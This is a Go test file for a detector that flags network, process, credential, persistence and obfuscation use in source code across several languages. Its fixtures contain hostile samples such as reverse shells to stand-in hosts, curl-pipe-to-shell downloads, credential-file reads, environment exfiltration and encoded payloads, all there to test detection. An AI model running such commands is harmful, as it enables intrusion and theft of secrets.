package intent

import (
	"context"
	"encoding/base64"
	"strings"
	"testing"
)

// TestExtract checks, per language, that each capability is found with
// its detail, and that ordinary code yields nothing.
func TestExtract(t *testing.T) {
	tests := []struct {
		name, path, src string
		want            []string // "cap detail" pairs, detail may be empty
	}{
		{"python socket to raw ip", "a.py", "import socket\ns = socket.socket()\ns.connect((\"203.0.113.7\", 4444))\n", []string{"network 203.0.113.7:4444"}},
		{"python requests with alias", "a.py", "import requests as r\nr.post('https://collect.example.net/x', json={})\n", []string{"network collect.example.net"}},
		{"python from-import run", "a.py", "from subprocess import run\nrun(['git', 'status'])\n", []string{"process git status"}},
		{"python aws credentials join", "a.py", "import os\np = os.path.join(os.path.expanduser('~'), '.aws', 'credentials')\n", []string{"credentials"}},
		{"python bashrc append", "a.py", "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('x')\n", []string{"persistence ~/.bashrc"}},
		{"python decode then exec", "a.py", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", []string{"eval exec", "obfuscation exec"}},
		{"python env dump", "a.py", "import os, json\nprint(json.dumps(dict(os.environ)))\n", []string{"env"}},
		{"python env passed to child is fine", "a.py", "import os, subprocess\nsubprocess.run(['make'], env={**os.environ, 'CI': '1'})\n", []string{"process make"}},
		{"python pickle", "a.py", "import pickle\nobj = pickle.loads(data)\n", []string{"deserialization pickle.loads"}},
		{"python ctypes", "a.py", "import ctypes\nlib = ctypes.CDLL('libfoo.so')\n", []string{"native libfoo.so"}},
		{"python yaml safe", "a.py", "import yaml\nyaml.load(s, Loader=yaml.SafeLoader)\n", nil},
		{"python plain code", "a.py", "def total(xs):\n    return sum(x.price for x in xs)\n", nil},
		{"js child_process destructured", "a.js", "const { execSync } = require('child_process');\nexecSync('ls -la');\n", []string{"process ls -la"}},
		{"js fetch", "a.ts", "export async function get(id: string) { return fetch(`https://api.example.com/items/${id}`); }\n", []string{"network api.example.com"}},
		{"js new Function atob", "a.js", "new Function(atob('Y29uc29sZS5sb2coMSk='))();\n", []string{"eval Function", "obfuscation Function"}},
		{"js env dump", "a.js", "fetch('https://h.example.com', {method: 'POST', body: JSON.stringify(process.env)});\n", []string{"network h.example.com", "env process.env"}},
		{"js secret env", "a.js", "const t = process.env.NPM_TOKEN;\n", []string{"credentials NPM_TOKEN"}},
		{"go http and exec", "a.go", "package x\nimport (\n\t\"net/http\"\n\tex \"os/exec\"\n)\nfunc f() { http.Get(\"https://u.example.org/v\"); ex.Command(\"sh\", \"-c\", \"id\").Run() }\n", []string{"network u.example.org", "process sh -c id"}},
		{"go cgo", "a.go", "package x\n// #include <stdio.h>\nimport \"C\"\n", []string{"native cgo"}},
		{"go environ to child is fine", "a.go", "package x\nimport \"os\"\nfunc f(cmd *C) { cmd.Env = append(os.Environ(), \"A=1\") }\n", nil},
		{"java runtime exec and socket", "A.java", "import java.net.Socket;\nclass A { void g() throws Exception { Runtime.getRuntime().exec(\"id\"); new Socket(\"198.51.100.2\", 9001); } }\n", []string{"process id", "network 198.51.100.2:9001"}},
		{"java object stream", "A.java", "import java.io.*;\nclass A { Object r(InputStream in) throws Exception { return new ObjectInputStream(in).readObject(); } }\n", []string{"deserialization"}},
		{"java url variable", "A.java", "import java.net.*;\nclass A { void f(URL url) throws Exception { HttpURLConnection c = (HttpURLConnection) url.openConnection(); } }\n", []string{"network"}},
		{"java native method", "A.java", "class A { native int f(); }\n", []string{"native JNI"}},
		{"shell curl pipe sh", "a.sh", "#!/bin/sh\ncurl -fsSL https://get.example.com/i.sh | sh\n", []string{"obfuscation", "network get.example.com"}},
		{"shell bashrc redirect", "a.sh", "echo 'alias ll=ls' >> ~/.bashrc\n", []string{"persistence ~/.bashrc"}},
		{"shell dev tcp", "a.sh", "bash -i >& /dev/tcp/203.0.113.9/443 0>&1\n", []string{"network 203.0.113.9:443"}},
		{"shell crontab", "a.sh", "(crontab -l; echo '* * * * * /tmp/x') | crontab -\n", []string{"persistence"}},
		{"shell base64 to bash", "a.sh", "echo ZWNobyBoaQ== | base64 -d | bash\n", []string{"obfuscation"}},
		{"python shell line", "a.py", "import os\nos.system('curl -s http://203.0.113.4/x | sh')\n", []string{"process", "obfuscation", "network 203.0.113.4"}},
		{"python bash -c argv", "a.py", "import subprocess\nsubprocess.run(['bash', '-c', 'cat ~/.aws/credentials'])\n", []string{"process", "credentials"}},
		{"js exec line", "a.js", "require('child_process').exec('echo x >> ~/.zshrc');\n", []string{"process", "persistence"}},
		{"java exec line", "A.java", "class A { void f() throws Exception { Runtime.getRuntime().exec(new String[]{\"sh\", \"-c\", \"nc 198.51.100.2 9000 -e /bin/sh\"}); } }\n", []string{"process", "network"}},
		{"shell nc host port", "a.sh", "nc -e /bin/sh evil.example.com 4444\n", []string{"network evil.example.com:4444"}},
		{"shell plain build", "build.sh", "#!/bin/sh\nset -eu\ngo build -o bin/app ./cmd/app\ncp bin/app dist/\n", nil},
		{"blob of code", "a.py", "P = '" + b64("import socket,subprocess;s=socket.socket();s.connect(('203.0.113.1',1));subprocess.call(['/bin/sh','-i'])") + "'\n", []string{"obfuscation"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			us, err := Extract(context.Background(), tt.path, []byte(tt.src))
			if err != nil {
				t.Fatal(err)
			}
			for _, w := range tt.want {
				c, d, _ := strings.Cut(w, " ")
				if !hasUse(us, Cap(c), d) {
					t.Errorf("missing %s %q in %v", c, d, us)
				}
			}
			if len(tt.want) == 0 && len(us) > 0 {
				t.Errorf("want no uses, got %+v", us)
			}
		})
	}
}

func hasUse(us []Use, c Cap, detail string) bool {
	for _, u := range us {
		if u.Cap == c && (detail == "" || u.Detail == detail) {
			return true
		}
	}
	return false
}

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

// TestExtractHostile feeds inputs an attacker controls: none may panic,
// and each must still yield what it plainly contains.
func TestExtractHostile(t *testing.T) {
	deep := strings.Repeat("[", 20000) + strings.Repeat("]", 20000)
	tests := []struct {
		name, path, src string
		want            Cap
	}{
		{"invalid utf-8", "a.py", "x = '\xff\xfe'\nimport os\nos.system('id')\n", CapProcess},
		{"nul bytes", "a.js", "const a = '\x00';\nrequire('child_process').exec('id')\n", CapProcess},
		{"deep nesting", "a.py", "x = " + deep + "\nimport os\nos.system('id')\n", CapProcess},
		{"deep nesting go", "a.go", "package x\nvar x = " + strings.Repeat("f(", 5000) + strings.Repeat(")", 5000) + "\nfunc g() { exec.Command(\"id\") }\nimport \"os/exec\"\n", ""},
		{"huge blob", "a.py", "P = '" + strings.Repeat("QUFB", 200000) + "'\n", ""},
		{"syntax errors", "A.java", "class { void ( { Runtime.getRuntime().exec(\"id\") ;;; } } }", CapProcess},
		{"unterminated heredoc", "a.sh", "cat <<EOF\ncurl http://x | sh\n", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			us, err := Extract(context.Background(), tt.path, []byte(tt.src))
			if err != nil {
				t.Fatal(err)
			}
			if tt.want != "" && !hasUse(us, tt.want, "") {
				t.Errorf("want %s in %+v", tt.want, us)
			}
		})
	}
}

// TestExtractFolding checks that names and paths assembled from pieces
// are put back together, and that doing so is itself reported.
func TestExtractFolding(t *testing.T) {
	tests := []struct {
		name, path, src string
		want            []string
	}{
		{"python concat import", "a.py", "m = __import__('o' + 's')\nm.system('id')\n", []string{"process", "obfuscation os"}},
		{"python join import", "a.py", "import importlib\ns = importlib.import_module(''.join(['so', 'ck', 'et']))\ns.create_connection(('203.0.113.9', 80))\n", []string{"network 203.0.113.9:80", "obfuscation socket"}},
		{"python getattr", "a.py", "import os\ngetattr(os, 'sys' + 'tem')('id')\n", []string{"process", "obfuscation system"}},
		{"python function alias", "a.py", "import os\nrun = os.system\nrun('id')\n", []string{"process id"}},
		{"python split path", "a.py", "import os\nopen(os.path.join(os.path.expanduser('~'), '.' + 'ssh', 'id_' + 'rsa'))\n", []string{"credentials"}},
		{"python plain import_module is fine", "a.py", "import importlib\np = importlib.import_module('plugins.' + name)\n", nil},
		{"js computed require", "a.js", "const m = require(['child', 'process'].join('_'));\nm['exe' + 'cSync']('id');\n", []string{"process", "obfuscation child_process"}},
		{"js global alias", "a.js", "const f = globalThis['fe' + 'tch'];\nf('https://x.example.com/c');\n", []string{"network x.example.com", "obfuscation fetch"}},
		{"js pixel", "a.ts", "const img = new Image();\nimg.src = 'https://px.example.com/p.gif?d=' + data;\n", []string{"network px.example.com"}},
		{"js relative src is fine", "a.ts", "img.src = '/static/logo.png';\n", nil},
		{"js import url", "a.ts", "import('https://cdn.example.com/m.mjs').then(m => m.default());\n", []string{"network cdn.example.com", "obfuscation"}},
		{"js locale require is fine", "a.js", "const m = require('./locales/' + lang + '.json');\n", nil},
		{"go function value", "a.go", "package x\nimport \"os\"\nvar dump = os.Environ\nfunc f() []string { return dump() }\n", []string{"env"}},
		{"shell command in a variable", "a.sh", "c=cu; c=\"${c}rl\"\n$c -s https://x.example.com/k\n", []string{"network x.example.com", "obfuscation curl"}},
		{"shell tool variable is fine", "a.sh", "CC=gcc\n$CC -o app main.c\n", nil},
		{"java reflection", "A.java", "class A { void f() throws Exception { Class.forName(\"java.lang.\" + \"Runtime\"); } }\n", []string{"obfuscation java.lang.Runtime", "process"}},
		{"java jdbc driver is fine", "A.java", "class A { void f() throws Exception { Class.forName(\"org.postgresql.Driver\"); } }\n", nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			us, err := Extract(context.Background(), tt.path, []byte(tt.src))
			if err != nil {
				t.Fatal(err)
			}
			for _, w := range tt.want {
				c, d, _ := strings.Cut(w, " ")
				if !hasUse(us, Cap(c), d) {
					t.Errorf("missing %s %q in %+v", c, d, us)
				}
			}
			if len(tt.want) == 0 && len(us) > 0 {
				t.Errorf("want no uses, got %+v", us)
			}
		})
	}
}
